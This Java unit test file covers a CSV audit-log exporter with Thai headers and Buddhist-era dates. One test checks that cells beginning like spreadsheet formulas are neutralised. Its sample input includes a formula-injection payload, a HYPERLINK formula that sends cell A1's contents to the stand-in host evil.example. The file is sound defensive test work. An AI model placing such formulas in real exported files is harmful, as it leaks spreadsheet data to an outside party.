package th.ita.audit;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import th.ita.audit.TimelineEntry.Kind;
import th.ita.shared.I18n;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import java.util.Date;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class AuditCsvTest {

    private static final ZoneId BANGKOK = ZoneId.of("Asia/Bangkok");
    private final AuditCsv csv = new AuditCsv(new I18n(), Clock.fixed(Instant.EPOCH, BANGKOK));

    @Test
    void exportStartsWithABom_andReadsBackWithThaiHeadersBothTimesAndThaiCells() throws IOException {
        Date time = Date.from(Instant.parse("2026-11-26T03:31:05Z"));
        List<TimelineEntry> entries = List.of(
                new TimelineEntry(time, "finance.officer", Kind.CLAIMED, "ดำเนินการและส่งหลักฐาน", null,
                        "t1", "finance", "1. มาตรการเปิดเผยข้อมูล"),
                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "ดำเนินการและส่งหลักฐาน",
                        "แนบรายงาน, \"ฉบับแก้ไข\"\nบรรทัดที่สอง", "t1", "finance", "1. มาตรการเปิดเผยข้อมูล"));

        byte[] bytes = csv.bytes(entries);

        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text.charAt(0)).isEqualTo(AuditCsv.BOM);
        CSVParser parser = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1)));
        assertThat(parser.getHeaderNames())
                .containsExactly("เวลา", "วันเวลา (พ.ศ.)", "ผู้ดำเนินการ", "การดำเนินการ", "มาตรการ", "ขั้นตอน", "รายละเอียด");
        List<CSVRecord> records = parser.getRecords();
        assertThat(records).hasSize(2);
        CSVRecord claim = records.get(0);
        assertThat(claim.get("เวลา")).isEqualTo("2026-11-26T10:31:05+07:00");
        assertThat(claim.get("วันเวลา (พ.ศ.)")).isEqualTo("26/11/2569 10:31");
        assertThat(claim.get("การดำเนินการ")).isEqualTo("รับงาน");
        assertThat(claim.get("มาตรการ")).isEqualTo("1. มาตรการเปิดเผยข้อมูล");
        assertThat(claim.get("รายละเอียด")).isEmpty();
        assertThat(records.get(1).get("รายละเอียด")).isEqualTo("แนบรายงาน, \"ฉบับแก้ไข\"\nบรรทัดที่สอง");
    }

    @Test
    void cellsAUserWroteThatStartLikeAFormula_areQuotedSoASpreadsheetShowsThemAsText() throws IOException {
        Date time = Date.from(Instant.parse("2026-11-26T03:31:05Z"));
        String formula = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"คลิก\")";
        List<TimelineEntry> entries = List.of(
                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "@SUM(1+1)", formula, "t1", "finance",
                        "+1 มาตรการ"),
                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "\tแท็บ", "-2+3", "t1", "finance", "\rCR"),
                new TimelineEntry(time, "finance.officer", Kind.COMMENT, "ขั้นตอน", "ปกติ = ไม่ใช่สูตร", "t1",
                        "finance", "1. มาตรการ"));

        String text = new String(csv.bytes(entries), StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text.substring(1))).getRecords();

        assertThat(records.get(0).get("รายละเอียด")).isEqualTo("'" + formula);
        assertThat(records.get(0).get("ขั้นตอน")).isEqualTo("'@SUM(1+1)");
        assertThat(records.get(0).get("มาตรการ")).isEqualTo("'+1 มาตรการ");
        assertThat(records.get(1).get("รายละเอียด")).isEqualTo("'-2+3");
        assertThat(records.get(1).get("ขั้นตอน")).isEqualTo("'\tแท็บ");
        assertThat(records.get(1).get("มาตรการ")).isEqualTo("'\rCR");
        assertThat(records.get(2).get("รายละเอียด")).isEqualTo("ปกติ = ไม่ใช่สูตร");
        assertThat(records.get(2).get("มาตรการ")).isEqualTo("1. มาตรการ");
    }
}
